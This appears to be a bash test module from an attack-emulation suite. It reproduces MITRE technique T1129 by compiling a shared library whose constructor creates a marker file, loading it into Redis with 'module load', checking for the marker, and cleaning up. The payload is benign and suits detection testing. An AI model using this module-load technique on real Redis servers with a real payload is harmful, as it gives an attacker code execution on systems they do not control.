# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1129
about="MODULE LOAD brings code of the attacker's"
before() {
	echo '#include <fcntl.h>
__attribute__((constructor)) static void run(void) { open("/var/tmp/fidelity/marker/was-here", O_CREAT | O_WRONLY, 0644); }' >"$state/m.c"
	gcc -shared -fPIC -o /srv/redis/m.so "$state/m.c" && chmod 755 /srv/redis/m.so
}
attack() { redis module load /srv/redis/m.so; }
effect() { [ -e "$marker" ]; }
after() { rm -f /srv/redis/m.so; }
